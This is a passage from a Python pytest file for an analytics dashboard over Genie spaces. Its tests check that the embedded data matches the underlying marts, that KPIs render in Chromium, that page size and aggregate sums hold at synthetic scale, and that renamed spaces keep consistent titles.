    """The rows of mart_eval_accuracy the page must carry (sql/dashboards/eval_accuracy.sql but eval_run_id)."""
    return [{"workspace_id": r["workspace_id"], "space_id": r["space_id"], "space": r["space_title"] or r["space_id"],
             **{k: iso(r[k]) for k in ("run_number", "run_date", "finished_at", "num_questions", "num_correct",
                                       "num_needs_review", "num_bad", "accuracy", "previous_accuracy", "accuracy_change",
                                       "is_latest")}}
            for r in sorted(runs, key=lambda r: (r["workspace_id"], r["space_id"], r["run_number"]))]


def test_the_page_carries_every_configuration_change_with_the_marts_before_and_after_figures(lifecycle: Lifecycle) -> None:
    payload = embedded_payload(lifecycle.page.read_text())
    shown = unpack(payload)["config_change_impact"]
    assert shown == change_rows(lifecycle.changes)  # every column, in the query's order
    assert payload["meta"]["not_embedded"]["config_change_impact"] == ["diff_json"]
    # ... and they are the changes made: the day and hour each was made, what changed, the scenario's questions
    assert {(r["workspace_id"], r["space_id"]): r["changed_at"] for r in shown} == {k: iso(v) for k, v in lifecycle.changed.items()}
    week = dt.timedelta(days=7)
    for r in shown:
        assert (r["version_number"], r["diff_summary"]) == (2, "tables +0 -1 ~0; text_instructions +0 -0 ~1")
        at = dt.datetime.fromisoformat(r["changed_at"])
        mine = [m for m in lifecycle.messages if (m.workspace_id, m.space_id) == (r["workspace_id"], r["space_id"])]
        before = [m for m in mine if at - week <= m.created_at < at]
        after = [m for m in mine if at <= m.created_at < at + week]
        assert before and after and (r["questions_before"], r["questions_after"]) == (len(before), len(after))
        for side, ms in (("before", before), ("after", after)):
            done = [m for m in ms if m.final_status in ("COMPLETED", "FAILED", "CANCELLED")]
            assert close(r[f"success_rate_{side}"], rate(sum(m.final_status == "COMPLETED" for m in done), len(done)))
            assert close(r[f"negative_feedback_rate_{side}"], rate(sum(m.feedback_rating == "NEGATIVE" for m in ms), len(ms)))
        assert close(r["negative_feedback_rate_change"], r["negative_feedback_rate_after"] - r["negative_feedback_rate_before"])


def test_the_page_carries_every_finished_eval_run_with_the_marts_accuracy(lifecycle: Lifecycle) -> None:
    payload = embedded_payload(lifecycle.page.read_text())
    shown = unpack(payload)["eval_accuracy"]
    assert shown == run_rows(lifecycle.runs)
    assert payload["meta"]["not_embedded"]["eval_accuracy"] == ["eval_run_id", "workspace_name"]
    assert "eval_accuracy" in payload["meta"]["lazy"] and "config_change_impact" in payload["meta"]["core"]
    # ... and they are the runs the simulated workspaces made, in order, with the accuracy they assessed
    per_space: dict[tuple[str, str], list[tuple[dt.datetime, tuple[str, ...]]]] = defaultdict(list)
    for ws, space, created, assessments in lifecycle.simulated.values():
        per_space[(ws, space)].append((created, assessments))
    assert {(r["workspace_id"], r["space_id"]) for r in shown} == set(per_space)
    assert lifecycle.no_benchmarks not in per_space and lifecycle.schedule_off not in per_space
    for key, runs in per_space.items():
        mine = [r for r in shown if (r["workspace_id"], r["space_id"]) == key]
        assert len(runs) == len(mine) == len(EVAL_DAYS)
        previous = None
        for r, (created, assessments) in zip(mine, sorted(runs), strict=True):
            good, review = assessments.count("GOOD"), assessments.count("NEEDS_REVIEW")
            assert r["run_date"] == created.date().isoformat()
            assert (r["num_questions"], r["num_correct"], r["num_needs_review"], r["num_bad"]) == (
                len(assessments), good, review, len(assessments) - good - review)
            assert close(r["accuracy"], good / len(assessments)) and close(r["previous_accuracy"], previous)
            assert r["is_latest"] == (r is mine[-1])
            previous = r["accuracy"]
    assert any(r["accuracy_change"] and r["accuracy_change"] < 0 for r in shown)  # a drop, for the pages to show


# -- the page's own numbers (needs Chromium) -----------------------------------------------------------------

KPI_IDS = {"questions": "kpi questions", "conversations": "kpi conversations", "askers": "kpi people asking",
           "spaces": "kpi spaces used", "success_rate": "kpi success rate",
           "positive_feedback": "kpi positive feedback share", "coverage": "kpi coverage",
           "failed": "kpi failed answers", "failure_rate": "kpi failure rate", "positive": "kpi rated positive",
           "negative": "kpi rated negative", "reviews": "kpi review requests", "statements": "kpi sql statements",
           "failed_statements": "kpi failed statements", "avg_duration": "kpi average duration",
           "read_rows": "kpi rows read", "read_bytes": "kpi data read", "people": "kpi people",
           "dau": "kpi active on the last day", "wau": "kpi active in the last 7 days",
           "per_person": "kpi questions per person", "health_coverage": "kpi health coverage",
           "pending": "kpi pending", "missing": "kpi missing details", "open_errors": "kpi open fetch errors",
           "api_only": "kpi found only by the api"}


@pytest.mark.parametrize("ws", FILTERS)
def test_the_browser_shows_what_this_reading_of_dashboard_js_computes(world: World, shown: dict[str, dict[str, Any]],  # noqa: F811
                                                                      ws: str) -> None:
    chromium = chromium_or_skip()
    dom = dump_dom(chromium, dashboard_file(world), f"ws={ws}&tab=all")
    assert not dom.errors, dom.errors
    assert set(dom.kpis) == set(KPI_IDS)
    for kpi, figure in KPI_IDS.items():
        assert same(dom.kpis[kpi], shown[ws][figure]), (kpi, dom.kpis[kpi], shown[ws][figure])


# -- the page's size at a large scale (synthesized rows; render time is measured by bench/bench_dashboard.py) --


@pytest.fixture(scope="module")
def large() -> dict[str, list[dict[str, Any]]]:
    from genie_obs_dagster.dashboard.synthetic import synthesize

    return synthesize(workspaces=50, spaces=10, days=365)


@pytest.fixture(scope="module")
def large_page(large: Data) -> str:
    from genie_obs_dagster.dashboard import html

    return html.render(large, dt.datetime(2026, 6, 30, 19, tzinfo=dt.timezone.utc))


def test_the_page_stays_under_5_mb_at_50_workspaces_10_spaces_365_days(large_page: str) -> None:
    assert len(large_page.encode()) < 5_000_000, len(large_page.encode())


def _sums(rows: list[dict[str, Any]], by: Callable[[dict[str, Any]], Any], keys: tuple[str, ...]) -> dict[Any, tuple[int, ...]]:
    """Sums of every key per group (one pass), groups whose sums are all zero dropped."""
    out: dict[Any, list[int]] = defaultdict(lambda: [0] * len(keys))
    for r in rows:
        acc = out[by(r)]
        for i, k in enumerate(keys):
            acc[i] += r.get(k) or 0
    return {g: tuple(v) for g, v in out.items() if any(v)}


def test_packing_a_long_range_keeps_every_sum_exact(large: Data, large_page: str) -> None:
    """Folded weeks add up to the rows they replace, per workspace (daily for 365 days) and per space (daily for
    SPACE_DAILY_DAYS days, every space kept), failures per space and error type; adoption stays daily."""
    from genie_obs_dagster.dashboard import pack

    shown = unpack(embedded_payload(large_page))
    last = max(dt.date.fromisoformat(r["activity_date"]) for r in large["daily_activity"])
    reads = {(r["workspace_id"], r["space_id"], r["activity_date"]): r for r in large["sql_reads_daily"]}
    raw_all = [{**r, **{k: (reads.get((r["workspace_id"], r["space_id"], r["activity_date"])) or {}).get(k, 0)
                        for k in ("read_rows", "read_bytes")}} for r in large["daily_activity"]]

    def week(r: dict[str, Any]) -> str:
        return pack.bucket_day(r["activity_date"], last, 0)

    def recent(r: dict[str, Any]) -> bool:
        return (last - dt.date.fromisoformat(r["activity_date"])).days < pack.SPACE_DAILY_DAYS

    space = lambda r: (r["workspace_id"], r["space_id"])  # noqa: E731
    for ws in ("all", large["workspaces"][0]["workspace_id"]):
        raw = [r for r in raw_all if ws == "all" or r["workspace_id"] == ws]
        act = [r for r in shown["daily_activity"] if ws == "all" or r["workspace_id"] == ws]
        assert _sums(act, lambda r: r["activity_date"], pack.ACTIVITY_SUMS) == _sums(raw, lambda r: r["activity_date"], pack.ACTIVITY_SUMS)
        sa = [r for r in shown["space_activity"] if ws == "all" or r["workspace_id"] == ws]
        assert {space(r) for r in sa} == {space(r) for r in raw if r["questions"]}
        assert _sums(sa, lambda r: (space(r), week(r)), pack.SPACE_SUMS) == _sums(raw, lambda r: (space(r), week(r)), pack.SPACE_SUMS)
        assert _sums([r for r in sa if recent(r)], lambda r: (space(r), r["activity_date"]), pack.SPACE_SUMS) == _sums(
            [r for r in raw if recent(r)], lambda r: (space(r), r["activity_date"]), pack.SPACE_SUMS)
        fl = [r for r in shown["failures"] if ws == "all" or r["workspace_id"] == ws]
        raw_fl = [r for r in large["failures"] if ws == "all" or r["workspace_id"] == ws]
        assert _per(fl, lambda r: (space(r), r["error_type"], week(r)), "failures") == _per(
            raw_fl, lambda r: (space(r), r["error_type"], week(r)), "failures")
    assert shown["adoption_daily"] == large["adoption_daily"]


def test_the_messages_kept_are_whole_days_and_add_up_to_the_daily_rows(large: Data, large_page: str) -> None:
    """At 50 workspaces the page keeps the newest whole days of messages (facts up to MESSAGE_BUDGET, texts up to
    TEXT_BUDGET), and on those days they count exactly what the daily rows count."""
    from genie_obs_dagster.dashboard import pack

    payload = embedded_payload(large_page)
    shown, meta = unpack(payload), payload["meta"]
    facts, texts = shown["messages"], shown["message_text"]
    assert 0 < len(texts) <= pack.TEXT_BUDGET < len(facts) <= pack.MESSAGE_BUDGET < meta["messages_total"]
    day = lambda m: (dt.datetime(1970, 1, 1) + dt.timedelta(minutes=m["t"])).date().isoformat()  # noqa: E731
    assert meta["messages"]["first"] == min(map(day, facts)) and meta["texts"]["first"] == day(facts[len(texts) - 1])
    kept_days = {day(m) for m in facts}
    raw = [r for r in large["daily_activity"] if r["activity_date"] in kept_days]
    assert len(facts) == _sum(raw, "questions")  # whole days: every message of those days
    assert len(texts) == sum(1 for m in facts if day(m) >= meta["texts"]["first"])
    for outcome in ("completed", "failed", "cancelled", "in_progress", "not_fetched"):
        assert sum(m["outcome"] == outcome for m in facts) == _sum(raw, outcome), outcome
    assert sum(m["feedback_rating"] == "NEGATIVE" for m in facts) == _sum(raw, "negative_feedback")
    assert sum(m["has_statement"] for m in facts) == _sum(raw, "sql_statements")
    assert sum(m["starts_conversation"] for m in facts) == _sum(raw, "new_conversations")
    assert all(len(t["query_sql"] or "") <= pack.TEXT_LIMITS["query_sql"] for t in texts)


def test_a_renamed_space_keeps_one_name_on_every_change_and_version(tmp_path: Path) -> None:
    """Both dashboards find a space's page, filters and links by what the space is called now: every configuration
    version and change of a renamed space carries the current title as `space` (else Lakeview's space filter would
    split its history under old names), and the title of that version beside it."""
    import pyarrow as pa

    from genie_obs_dagster.resources import open_warehouse
    from genie_obs_dagster.warehouse import sql as sqlmod

    from .conftest import make_settings

    at = dt.datetime(2026, 3, 1, 10, tzinfo=dt.timezone.utc)

    def rows(table: str, *given: dict[str, Any]) -> pa.Table:
        """Rows of the table: the values given, every other column a neutral value of its type."""
        schema = sqlmod.ddl_arrow_schema(table)
        neutral = {pa.types.is_integer: 0, pa.types.is_floating: 0.0, pa.types.is_boolean: False,
                   pa.types.is_string: "", pa.types.is_timestamp: at}
        base = {f.name: next((v for test, v in neutral.items() if test(f.type)), None) for f in schema}
        return pa.Table.from_pylist([{**base, **g} for g in given], schema=schema)

    key = {"workspace_id": WORKSPACES[0], "space_id": "0" * 31 + "1"}
    with open_warehouse(make_settings(tmp_path / "wh.duckdb")) as wh:
        wh.ensure_schema()
        wh.merge_rows("genie_space_details", rows("genie_space_details", {**key, "title": "Revenue", "config_hash": "h2"}),
                      ["workspace_id", "space_id"])
        wh.merge_rows("mart_space_config_versions", rows(
            "mart_space_config_versions", {**key, "config_hash": "h1", "version_number": 1, "title": "Sales"},
            {**key, "config_hash": "h2", "version_number": 2, "title": "Revenue", "is_current": True}),
            ["workspace_id", "space_id", "config_hash"])
        wh.merge_rows("mart_space_config_changes", rows(
            "mart_space_config_changes", {**key, "from_config_hash": "h1", "to_config_hash": "h2", "version_number": 2,
                                          "space_title": "Revenue", "window_days": 7}),
            ["workspace_id", "space_id", "to_config_hash"])
        versions = wh.query("dashboards/config_changes").to_pylist()
        changes = wh.query("dashboards/config_change_impact").to_pylist()
    assert sorted((r["version_number"], r["space"], r["title"]) for r in versions) == [
        (1, "Revenue", "Sales"), (2, "Revenue", "Revenue")]
    assert [(r["space"], r["title_after_change"]) for r in changes] == [("Revenue", "Revenue")]
